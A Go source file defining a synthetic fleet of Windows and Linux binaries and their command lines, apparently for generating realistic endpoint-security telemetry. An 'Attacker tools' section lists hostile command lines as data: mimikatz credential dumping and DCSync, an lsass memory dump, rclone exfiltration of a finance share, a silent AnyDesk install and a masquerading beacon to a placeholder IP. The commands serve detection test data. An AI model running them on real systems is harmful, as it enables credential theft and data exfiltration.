package sampledata

import (
	"encoding/base64"
	"strings"
	"time"
	"unicode/utf16"
)

type category uint8

const (
	catSystem category = iota
	catService
	catShell
	catLOLBin
	catBrowser
	catOffice
	catApp
	catSecurity
	catServer
	catMalware
)

type runKind uint8

const (
	runInherit runKind = iota
	runSystem
	runLocalService
	runNetworkService
	runUser // the device's interactive user
)

// binary is one executable of the synthetic fleet, with stable hashes.
type binary struct {
	idx                    int
	name, path             string
	os                     osKind
	company, product, desc string
	version                string
	size                   int64
	sha1, sha256, md5      string
	signerType, sigStatus  string
	cat                    category
	run                    runKind
	life                   time.Duration
	root                   bool
	parent                 string // the usual parent, used to start this binary when needed
	cmds                   []*tmpl
	bx                     binBox
}

// binBox holds a binary's strings boxed once, so that rows reuse them
// instead of allocating an interface value per column.
type binBox struct {
	name, company, product, version, desc, internal, sha1, sha256, md5, signerType, sigStatus, size any
}

// The binaries, per OS. Paths are FolderPath as Defender writes it (the
// full path of the file).
var binarySpecs = []struct {
	name, path, company, product, desc, version string
	size                                        int64
	os                                          osKind
	cat                                         category
	run                                         runKind
	life                                        time.Duration
	root                                        bool
	parent                                      string
	cmds                                        []string
}{
	// Windows boot processes (roots: running before the window opens).
	{"smss.exe", `C:\Windows\System32\smss.exe`, msCo, winProd, "Windows Session Manager", "10.0.22621.3527", 155648, osWindows, catSystem, runSystem, 0, true, "", []string{`\SystemRoot\System32\smss.exe`}},
	{"wininit.exe", `C:\Windows\System32\wininit.exe`, msCo, winProd, "Windows Start-Up Application", "10.0.22621.3527", 446464, osWindows, catSystem, runSystem, 0, true, "", []string{`wininit.exe`}},
	{"winlogon.exe", `C:\Windows\System32\winlogon.exe`, msCo, winProd, "Windows Logon Application", "10.0.22621.3527", 907264, osWindows, catSystem, runSystem, 0, true, "", []string{`winlogon.exe`}},
	{"services.exe", `C:\Windows\System32\services.exe`, msCo, winProd, "Services and Controller app", "10.0.22621.3527", 720896, osWindows, catSystem, runSystem, 0, true, "", []string{`C:\Windows\system32\services.exe`}},
	{"lsass.exe", `C:\Windows\System32\lsass.exe`, msCo, winProd, "Local Security Authority Process", "10.0.22621.3527", 86016, osWindows, catSystem, runSystem, 0, true, "", []string{`C:\Windows\system32\lsass.exe`}},
	{"svchost.exe", `C:\Windows\System32\svchost.exe`, msCo, winProd, "Host Process for Windows Services", "10.0.22621.3527", 57360, osWindows, catService, runSystem, 0, true, "", []string{
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\system32\svchost.exe -k DcomLaunch -p`,
		`C:\Windows\system32\svchost.exe -k netsvcs -p -s Winmgmt`, `C:\Windows\System32\svchost.exe -k NetworkService -p -s Dnscache`,
		`C:\Windows\system32\svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog`, `C:\Windows\system32\svchost.exe -k wusvcs -p -s WaaSMedicSvc`,
		`C:\Windows\system32\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_{hex5}`, `C:\Windows\System32\svchost.exe -k netsvcs -p -s BITS`}},
	{"MsMpEng.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, msCo, winProd, "Antimalware Service Executable", "4.18.24090.11", 133440, osWindows, catSecurity, runSystem, 0, true, "", []string{`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"`}},
	{"MsSense.exe", `C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe`, msCo, winProd, "Windows Defender Advanced Threat Protection Service Executable", "10.8760.22621.1000", 4423584, osWindows, catSecurity, runSystem, 0, true, "", []string{`"C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe"`}},
	{"IntuneManagementExtension.exe", `C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe`, msCo, "Microsoft Intune", "Microsoft Intune Management Extension", "1.83.107.0", 73096, osWindows, catService, runSystem, 0, true, "", []string{`"C:\Program Files (x86)\Microsoft Intune Management Extension\Microsoft.Management.Services.IntuneWindowsAgent.exe"`}},
	// Windows processes started during the window.
	{"userinit.exe", `C:\Windows\System32\userinit.exe`, msCo, winProd, "Userinit Logon Application", "10.0.22621.3527", 36864, osWindows, catSystem, runUser, time.Minute, false, "winlogon.exe", []string{`C:\Windows\system32\userinit.exe`}},
	{"explorer.exe", `C:\Windows\explorer.exe`, msCo, winProd, "Windows Explorer", "10.0.22621.3527", 5423592, osWindows, catSystem, runUser, 30 * time.Hour, false, "userinit.exe", []string{`C:\Windows\Explorer.EXE`}},
	{"taskhostw.exe", `C:\Windows\System32\taskhostw.exe`, msCo, winProd, "Host Process for Windows Tasks", "10.0.22621.3527", 98304, osWindows, catService, runInherit, 10 * time.Minute, false, "svchost.exe", []string{`taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly`, `taskhostw.exe Install $(Arg0)`, `taskhostw.exe SYSTEM`, `taskhostw.exe {GUID}`}},
	{"WmiPrvSE.exe", `C:\Windows\System32\wbem\WmiPrvSE.exe`, msCo, winProd, "WMI Provider Host", "10.0.22621.3527", 495616, osWindows, catService, runNetworkService, 2 * time.Hour, false, "svchost.exe", []string{`C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\system32\wbem\wmiprvse.exe -Embedding`}},
	{"RuntimeBroker.exe", `C:\Windows\System32\RuntimeBroker.exe`, msCo, winProd, "Runtime Broker", "10.0.22621.3527", 135168, osWindows, catService, runUser, time.Hour, false, "svchost.exe", []string{`C:\Windows\System32\RuntimeBroker.exe -Embedding`}},
	{"dllhost.exe", `C:\Windows\System32\dllhost.exe`, msCo, winProd, "COM Surrogate", "10.0.22621.3527", 20848, osWindows, catService, runInherit, 5 * time.Minute, false, "svchost.exe", []string{`C:\Windows\system32\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`, `C:\Windows\system32\DllHost.exe /Processid:{3EB3C877-1F16-487C-9050-104DBCD66683}`}},
	{"backgroundTaskHost.exe", `C:\Windows\System32\backgroundTaskHost.exe`, msCo, winProd, "Background Task Host", "10.0.22621.3527", 19352, osWindows, catService, runUser, 2 * time.Minute, false, "svchost.exe", []string{`"C:\Windows\system32\backgroundTaskHost.exe" -ServerName:BackgroundTaskHost.WebAccountProvider`, `"C:\Windows\system32\BackgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmbwv9nqx7nmnv8h.mca`}},
	{"SearchProtocolHost.exe", `C:\Windows\System32\SearchProtocolHost.exe`, msCo, winProd, "Microsoft Windows Search Protocol Host", "7.0.22621.3527", 434176, osWindows, catService, runSystem, 3 * time.Minute, false, "svchost.exe", []string{`"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe_S-1-5-21-{n6}-{n6}-{n6}-{n4}1_ Global\UsGthrCtrlFltPipeMssGthrPipe_S-1-5-21-{n6}1 1 -2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data\Temp\usgthrsvc" "DownLevelDaemon" "1"`}},
	{"MpCmdRun.exe", `C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe`, msCo, winProd, "Microsoft Malware Protection Command Line Utility", "4.18.24090.11", 1588192, osWindows, catSecurity, runSystem, time.Minute, false, "MsMpEng.exe", []string{`"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges -Reinvoke`, `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" -wdenable`, `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" GetDeviceTicket -AccessKey {GUID}`}},
	{"CompatTelRunner.exe", `C:\Windows\System32\CompatTelRunner.exe`, msCo, winProd, "Microsoft Compatibility Telemetry", "10.0.22621.3527", 201728, osWindows, catService, runSystem, 10 * time.Minute, false, "svchost.exe", []string{`C:\Windows\system32\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun -cv:{b64s}.1`, `C:\Windows\system32\compattelrunner.exe -m:aeinv.dll -f:UpdateSoftwareInventoryW invsvc`}},
	{"msiexec.exe", `C:\Windows\System32\msiexec.exe`, msCo, winProd, "Windows® installer", "5.0.22621.3527", 67584, osWindows, catService, runInherit, 5 * time.Minute, false, "services.exe", []string{`C:\Windows\system32\msiexec.exe /V`, `C:\Windows\System32\MsiExec.exe -Embedding {HEX32} C`, `"C:\Windows\System32\msiexec.exe" /i "C:\Users\{user}\Downloads\ZoomInstallerFull.msi" /qn`}},
	{"conhost.exe", `C:\Windows\System32\conhost.exe`, msCo, winProd, "Console Window Host", "10.0.22621.3527", 1010688, osWindows, catSystem, runInherit, 10 * time.Minute, false, "cmd.exe", []string{`\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `\??\C:\Windows\system32\conhost.exe 0x4`}},
	{"cmd.exe", `C:\Windows\System32\cmd.exe`, msCo, winProd, "Windows Command Processor", "10.0.22621.3527", 323584, osWindows, catShell, runInherit, 15 * time.Minute, false, "explorer.exe", []string{
		`"C:\Windows\system32\cmd.exe" `, `C:\Windows\system32\cmd.exe /c ""C:\Program Files\Contoso\Agent\bin\healthcheck.cmd" --quiet --log "C:\ProgramData\Contoso\Agent\logs\health-{n4}.log""`,
		`cmd.exe /c echo {hex8} > \\.\pipe\{hex8}`, `C:\Windows\system32\cmd.exe /d /s /c "git rev-parse --abbrev-ref HEAD && git status --porcelain --untracked-files=no"`,
		`C:\Windows\system32\cmd.exe /c "C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\DataCollection\{n4}.{n4}.{n6}\OpenHandleCollector.exe" -cmdline`}},
	{"powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, msCo, winProd, "Windows PowerShell", "10.0.22621.3527", 455680, osWindows, catShell, runInherit, 20 * time.Minute, false, "explorer.exe", []string{
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Microsoft\IntuneManagementExtension\Policies\Scripts\{guid}_{guid}.ps1"`,
		`powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -Command "& {$OutputEncoding = [Console]::OutputEncoding =[System.Text.Encoding]::UTF8;$scriptFileStream = [System.IO.File]::Open('C:\ProgramData\Microsoft\Windows Defender Advanced Threat Protection\Downloads\PSScript_{GUID}.ps1', [System.IO.FileMode]::Open, [System.IO.FileAccess]::Read, [System.IO.FileShare]::Read)}"`,
		`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noexit -command Set-Location -literalPath 'C:\Users\{user}\Documents\Projects'`,
		`powershell.exe -NoLogo -NonInteractive -Command "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object LastBootUpTime, FreePhysicalMemory | ConvertTo-Json -Compress"`}},
	{"chrome.exe", `C:\Program Files\Google\Chrome\Application\chrome.exe`, "Google LLC", "Google Chrome", "Google Chrome", "131.0.6778.86", 3120440, osWindows, catBrowser, runUser, 8 * time.Hour, false, "explorer.exe", []string{
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --string-annotations --video-capture-use-gpu-memory-buffer --lang=en-US --device-scale-factor=1.25 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n3} --time-ticks-at-unix-epoch=-{big} --launch-time-ticks={n10} --field-trial-handle=1996,i,{big},{big},262144 --variations-seed-version=20241122-050106.395000 --mojo-platform-channel-handle={n4} /prefetch:1`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --string-annotations --field-trial-handle=1996,i,{big},{big},262144 --variations-seed-version=20241122-050106.395000 --mojo-platform-channel-handle={n4} /prefetch:11`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=gpu-process --string-annotations --gpu-preferences=UAAAAAAAAADgAAAEAAAAAAAAAAAAAAAAAABgAAEAAAAAAAAAAAAAAAAAAAACAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA --field-trial-handle=1996,i,{big},{big},262144 --variations-seed-version=20241122-050106.395000 --mojo-platform-channel-handle={n4} /prefetch:2`,
		`"C:\Program Files\Google\Chrome\Application\chrome.exe" --single-argument {url}`}},
	{"msedge.exe", `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, msCo, "Microsoft Edge", "Microsoft Edge", "131.0.2903.70", 4077008, osWindows, catBrowser, runUser, 8 * time.Hour, false, "explorer.exe", []string{
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --instant-process --lang=en-US --js-flags=--ms-user-locale= --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id={n3} --time-ticks-at-unix-epoch=-{big} --launch-time-ticks={n10} --field-trial-handle=2156,i,{big},{big},262144 --variations-seed-version --mojo-platform-channel-handle={n4} /prefetch:1`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service --field-trial-handle=2156,i,{big},{big},262144 --variations-seed-version --mojo-platform-channel-handle={n4} /prefetch:8`,
		`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument {url}`}},
	{"OUTLOOK.EXE", `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, msCo, "Microsoft Outlook", "Microsoft Outlook", "16.0.17928.20216", 42871208, osWindows, catOffice, runUser, 10 * time.Hour, false, "explorer.exe", []string{`"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" `, `"C:\Program Files\Microsoft Office\Root\Office16\OUTLOOK.EXE" /recycle`}},
	{"WINWORD.EXE", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, msCo, "Microsoft Office", "Microsoft Word", "16.0.17928.20216", 1634208, osWindows, catOffice, runUser, 2 * time.Hour, false, "explorer.exe", []string{`"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\{doc}.docx" /o ""`, `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "C:\Users\{user}\OneDrive - Contoso\Documents\{doc}.docx"`}},
	{"EXCEL.EXE", `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, msCo, "Microsoft Office", "Microsoft Excel", "16.0.17928.20216", 71263616, osWindows, catOffice, runUser, 2 * time.Hour, false, "explorer.exe", []string{`"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" "C:\Users\{user}\OneDrive - Contoso\Finance\{doc}.xlsx"`, `"C:\Program Files\Microsoft Office\Root\Office16\EXCEL.EXE" /dde`}},
	{"ms-teams.exe", `C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe`, msCo, "Microsoft Teams", "Microsoft Teams", "24295.605.3225.8804", 1102264, osWindows, catApp, runUser, 10 * time.Hour, false, "explorer.exe", []string{`"C:\Program Files\WindowsApps\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\ms-teams.exe" msteams:system-initiated`}},
	{"OneDrive.exe", `C:\Program Files\Microsoft OneDrive\OneDrive.exe`, msCo, "Microsoft OneDrive", "Microsoft OneDrive", "24.211.1020.0002", 3780448, osWindows, catApp, runUser, 20 * time.Hour, false, "explorer.exe", []string{`"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /updateInstalled /background`}},
	{"notepad.exe", `C:\Windows\System32\notepad.exe`, msCo, winProd, "Notepad", "10.0.22621.3527", 201216, osWindows, catApp, runUser, 30 * time.Minute, false, "explorer.exe", []string{`"C:\Windows\system32\NOTEPAD.EXE" C:\Users\{user}\Desktop\notes.txt`, `"C:\Windows\System32\notepad.exe" "C:\Users\{user}\Downloads\README.txt"`}},
	{"Acrobat.exe", `C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe`, "Adobe Inc.", "Adobe Acrobat", "Adobe Acrobat", "24.4.20220.0", 6620776, osWindows, catApp, runUser, time.Hour, false, "explorer.exe", []string{`"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe" "C:\Users\{user}\Downloads\{doc}.pdf"`}},
	{"Code.exe", `C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe`, msCo, "Visual Studio Code", "Visual Studio Code", "1.95.3", 158346120, osWindows, catApp, runUser, 6 * time.Hour, false, "explorer.exe", []string{`"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --user-data-dir="C:\Users\{user}\AppData\Roaming\Code" --standard-schemes=vscode-webview,vscode-file --secure-schemes=vscode-webview,vscode-file --field-trial-handle=1868,i,{big},{big},262144 /prefetch:8`}},
	// Windows admin tools and LOLBins.
	{"whoami.exe", `C:\Windows\System32\whoami.exe`, msCo, winProd, "whoami - displays logged on user information", "10.0.22621.3527", 73728, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`whoami`, `whoami /all`, `whoami /priv`, `"C:\Windows\system32\whoami.exe" /groups`}},
	{"ipconfig.exe", `C:\Windows\System32\ipconfig.exe`, msCo, winProd, "IP Configuration Utility", "10.0.22621.3527", 36352, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`ipconfig /all`, `ipconfig /flushdns`, `ipconfig /displaydns`}},
	{"ping.exe", `C:\Windows\System32\PING.EXE`, msCo, winProd, "TCP/IP Ping Command", "10.0.22621.3527", 21504, osWindows, catLOLBin, runInherit, 5 * time.Second, false, "cmd.exe", []string{`ping -n 4 {dc}`, `ping 8.8.8.8 -t`, `ping -n 1 -w 500 {srv}`}},
	{"net.exe", `C:\Windows\System32\net.exe`, msCo, winProd, "Net Command", "10.0.22621.3527", 62464, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`net use Z: \\srv-fs01.contoso.local\departments /persistent:yes`, `net time \\{dc} /set /y`, `net user {user} /domain`, `net share`}},
	{"nltest.exe", `C:\Windows\System32\nltest.exe`, msCo, winProd, "Microsoft® Logon Server Test Utility", "10.0.22621.3527", 128512, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`nltest /dsgetdc:contoso.local`, `nltest /sc_query:contoso.local`}},
	{"reg.exe", `C:\Windows\System32\reg.exe`, msCo, winProd, "Registry Console Tool", "10.0.22621.3527", 77824, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" /v ProductName`, `reg query HKLM\SOFTWARE\Policies\Microsoft\Windows\WindowsUpdate /s`}},
	{"tasklist.exe", `C:\Windows\System32\tasklist.exe`, msCo, winProd, "Lists the current running tasks", "10.0.22621.3527", 106496, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`tasklist /v /fo csv`, `tasklist /svc`, `tasklist /FI "IMAGENAME eq chrome.exe"`}},
	{"systeminfo.exe", `C:\Windows\System32\systeminfo.exe`, msCo, winProd, "Displays system information", "10.0.22621.3527", 90112, osWindows, catLOLBin, runInherit, 3 * time.Second, false, "cmd.exe", []string{`systeminfo`, `systeminfo /fo csv`}},
	{"schtasks.exe", `C:\Windows\System32\schtasks.exe`, msCo, winProd, "Task Scheduler Configuration Tool", "10.0.22621.3527", 235520, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`schtasks.exe /query /fo csv /v`, `schtasks /run /tn "\Contoso\InventoryUpload"`}},
	{"sc.exe", `C:\Windows\System32\sc.exe`, msCo, winProd, "Service Control Manager Configuration Tool", "10.0.22621.3527", 69632, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`sc query state= all`, `sc qc Spooler`, `sc.exe start ContosoAgent`}},
	{"certutil.exe", `C:\Windows\System32\certutil.exe`, msCo, winProd, "CertUtil.exe", "10.0.22621.3527", 1562112, osWindows, catLOLBin, runInherit, 5 * time.Second, false, "cmd.exe", []string{`certutil -hashfile "C:\Users\{user}\Downloads\setup-{n4}.msi" SHA256`, `certutil.exe -verify -urlfetch C:\Windows\Temp\root.cer`}},
	{"rundll32.exe", `C:\Windows\System32\rundll32.exe`, msCo, winProd, "Windows host process (Rundll32)", "10.0.22621.3527", 71680, osWindows, catLOLBin, runInherit, time.Minute, false, "explorer.exe", []string{`"C:\Windows\system32\rundll32.exe" C:\Windows\system32\shell32.dll,Control_RunDLL C:\Windows\System32\desk.cpl,,0`, `C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll {{GUID}} -Embedding`, `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\LogiLDA.dll,LogiFetch`}},
	{"regsvr32.exe", `C:\Windows\System32\regsvr32.exe`, msCo, winProd, "Microsoft(C) Register Server", "10.0.22621.3527", 25600, osWindows, catLOLBin, runInherit, 5 * time.Second, false, "msiexec.exe", []string{`regsvr32.exe /s "C:\Program Files\Contoso\Agent\bin\ctxshell64.dll"`, `"C:\Windows\System32\regsvr32.exe" /s /n /i:user "C:\Program Files\Microsoft OneDrive\24.211.1020.0002\FileSyncShell64.dll"`}},
	{"vssadmin.exe", `C:\Windows\System32\vssadmin.exe`, msCo, winProd, "Command Line Interface for Microsoft® Volume Shadow Copy Service", "10.0.22621.3527", 135168, osWindows, catLOLBin, runInherit, 2 * time.Second, false, "cmd.exe", []string{`vssadmin list shadows`, `vssadmin.exe list writers`}},
	{"wevtutil.exe", `C:\Windows\System32\wevtutil.exe`, msCo, winProd, "Eventing Command Line Utility", "10.0.22621.3527", 237056, osWindows, catLOLBin, runInherit, 2 * time.Second, false, "cmd.exe", []string{`wevtutil.exe qe Application /c:20 /rd:true /f:text`, `wevtutil gl Security`}},
	{"wmic.exe", `C:\Windows\System32\wbem\WMIC.exe`, msCo, winProd, "WMI Commandline Utility", "10.0.22621.3527", 571904, osWindows, catLOLBin, runInherit, 3 * time.Second, false, "cmd.exe", []string{`wmic os get caption,version,buildnumber /format:list`, `wmic logicaldisk get size,freespace,caption`, `wmic product where "name like 'Contoso%'" get name,version`}},
	{"bitsadmin.exe", `C:\Windows\System32\bitsadmin.exe`, msCo, winProd, "BITS administration utility", "7.8.22621.3527", 195584, osWindows, catLOLBin, runInherit, time.Minute, false, "cmd.exe", []string{`bitsadmin /list /allusers /verbose`}},
	{"mshta.exe", `C:\Windows\System32\mshta.exe`, msCo, winProd, "Microsoft (R) HTML Application host", "11.0.22621.3527", 43520, osWindows, catLOLBin, runInherit, time.Minute, false, "explorer.exe", []string{`"C:\Windows\System32\mshta.exe" "C:\Program Files\Contoso\Setup\welcome.hta"`}},
	{"bcdedit.exe", `C:\Windows\System32\bcdedit.exe`, msCo, winProd, "Boot Configuration Data Editor", "10.0.22621.3527", 573440, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`bcdedit /enum`}},
	{"netsh.exe", `C:\Windows\System32\netsh.exe`, msCo, winProd, "Network Command Shell", "10.0.22621.3527", 96768, osWindows, catLOLBin, runInherit, 2 * time.Second, false, "cmd.exe", []string{`netsh interface ip show config`, `netsh wlan show profiles`, `netsh advfirewall show allprofiles state`}},
	{"curl.exe", `C:\Windows\System32\curl.exe`, "curl, https://curl.se/", "The curl executable", "The curl executable", "8.7.1", 620032, osWindows, catLOLBin, runInherit, 10 * time.Second, false, "cmd.exe", []string{`curl.exe -s -o NUL -w "%{http_code}" https://api.contoso.com/health`, `curl -sSL https://objects.githubusercontent.com/github-production-release-asset/{n6}/tool-{n4}.zip -o C:\Users\{user}\Downloads\tool.zip`}},
	{"findstr.exe", `C:\Windows\System32\findstr.exe`, msCo, winProd, "Find String (QGREP) Utility", "10.0.22621.3527", 34304, osWindows, catLOLBin, runInherit, time.Second, false, "cmd.exe", []string{`findstr /i "error" C:\ProgramData\Contoso\Agent\logs\agent.log`, `findstr /s /i password *.config`}},
	{"PsExec64.exe", `C:\Users\{user}\Tools\SysinternalsSuite\PsExec64.exe`, "Sysinternals - www.sysinternals.com", "Sysinternals PsExec", "Execute processes remotely", "2.43", 833472, osWindows, catLOLBin, runInherit, time.Minute, false, "cmd.exe", []string{`PsExec64.exe \\{srv} -accepteula -s cmd.exe /c "gpupdate /force"`}},
	{"gpupdate.exe", `C:\Windows\System32\gpupdate.exe`, msCo, winProd, "Microsoft® Windows Group Policy Update Utility", "10.0.22621.3527", 30208, osWindows, catLOLBin, runInherit, 30 * time.Second, false, "cmd.exe", []string{`gpupdate /force`, `gpupdate /target:computer`}},
	// Windows servers.
	{"sqlservr.exe", `C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, msCo, "Microsoft SQL Server", "SQL Server Windows NT - 64 Bit", "2022.160.4145.4", 651216, osWindows, catServer, runInherit, 0, true, "", []string{`"C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe" -sMSSQLSERVER`}},
	{"w3wp.exe", `C:\Windows\System32\inetsrv\w3wp.exe`, msCo, "Internet Information Services", "IIS Worker Process", "10.0.20348.2340", 30720, osWindows, catServer, runNetworkService, 12 * time.Hour, false, "svchost.exe", []string{`c:\windows\system32\inetsrv\w3wp.exe -ap "ContosoPortal" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{guid} -h "C:\inetpub\temp\apppools\ContosoPortal\ContosoPortal.config" -w "" -m 0 -t 20 -ta 0`}},
	{"dns.exe", `C:\Windows\System32\dns.exe`, msCo, winProd, "Domain Name System (DNS) Server", "10.0.20348.2340", 2510848, osWindows, catServer, runSystem, 0, true, "", []string{`C:\Windows\system32\dns.exe`}},
	// Attacker tools (named as found in real intrusions).
	{"mimikatz.exe", `C:\Users\Public\Libraries\mimikatz.exe`, "gentilkiwi (Benjamin DELPY)", "mimikatz", "mimikatz for Windows", "2.2.0.0", 1355680, osWindows, catMalware, runInherit, time.Minute, false, "powershell.exe", []string{`mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit"`, `mimikatz.exe "lsadump::dcsync /domain:contoso.local /user:krbtgt" exit`}},
	{"procdump64.exe", `C:\Windows\Temp\procdump64.exe`, "Sysinternals - www.sysinternals.com", "ProcDump", "Sysinternals process dump utility", "11.0", 424856, osWindows, catMalware, runInherit, 10 * time.Second, false, "cmd.exe", []string{`procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass_{n4}.dmp`}},
	{"rclone.exe", `C:\Users\Public\Music\rclone.exe`, "https://rclone.org", "Rclone", "Rsync for cloud storage", "1.66.0", 55468032, osWindows, catMalware, runInherit, time.Hour, false, "cmd.exe", []string{`rclone.exe copy "\\srv-fs01.contoso.local\departments\Finance" mega:backup-{n4} -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12`}},
	{"AnyDesk.exe", `C:\ProgramData\AnyDesk\AnyDesk.exe`, "AnyDesk Software GmbH", "AnyDesk", "AnyDesk", "8.0.11", 5342832, osWindows, catMalware, runSystem, 5 * time.Hour, false, "cmd.exe", []string{`"C:\ProgramData\AnyDesk\AnyDesk.exe" --install C:\ProgramData\AnyDesk --start-with-win --silent`}},
	{"svch0st.exe", `C:\Users\{user}\AppData\Roaming\Microsoft\svch0st.exe`, "", "", "", "", 188416, osWindows, catMalware, runInherit, 6 * time.Hour, false, "powershell.exe", []string{`"C:\Users\{user}\AppData\Roaming\Microsoft\svch0st.exe" -k netsvc -c {mip}:443`}},
	// Linux.
	{"systemd", `/usr/lib/systemd/systemd`, "", "systemd", "", "249.11", 1849640, osLinux, catSystem, runSystem, 0, true, "", []string{`/sbin/init splash`}},
	{"sshd", `/usr/sbin/sshd`, "", "OpenSSH", "", "8.9p1", 921288, osLinux, catServer, runSystem, 0, true, "", []string{`sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups`}},
	{"cron", `/usr/sbin/cron`, "", "cron", "", "3.0pl1", 55944, osLinux, catService, runSystem, 0, true, "", []string{`/usr/sbin/cron -f -P`}},
	{"containerd-shim-runc-v2", `/usr/bin/containerd-shim-runc-v2`, "", "containerd", "", "1.7.12", 8306688, osLinux, catServer, runSystem, 0, true, "", []string{`/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {hex64} -address /run/containerd/containerd.sock`}},
	{"bash", `/usr/bin/bash`, "", "GNU bash", "", "5.1.16", 1396520, osLinux, catShell, runInherit, 30 * time.Minute, false, "sshd", []string{`-bash`, `/bin/bash /opt/contoso/scripts/rotate-logs.sh --days 14 --compress`, `bash -c "cd /srv/app && git pull --ff-only origin main && systemctl restart contoso-app"`}},
	{"sh", `/usr/bin/dash`, "", "dash", "", "0.5.11", 125688, osLinux, catShell, runInherit, time.Minute, false, "cron", []string{`/bin/sh -c "command -v debian-sa1 > /dev/null && debian-sa1 1 1"`, `/bin/sh -c "/usr/local/bin/backup.sh /var/lib/postgresql s3://contoso-backups/db/$(hostname) >> /var/log/backup.log 2>&1"`}},
	{"sudo", `/usr/bin/sudo`, "", "sudo", "", "1.9.9", 232416, osLinux, catShell, runSystem, 10 * time.Second, false, "bash", []string{`sudo apt-get update`, `sudo systemctl restart nginx`, `sudo journalctl -u contoso-app --since "1 hour ago" --no-pager`}},
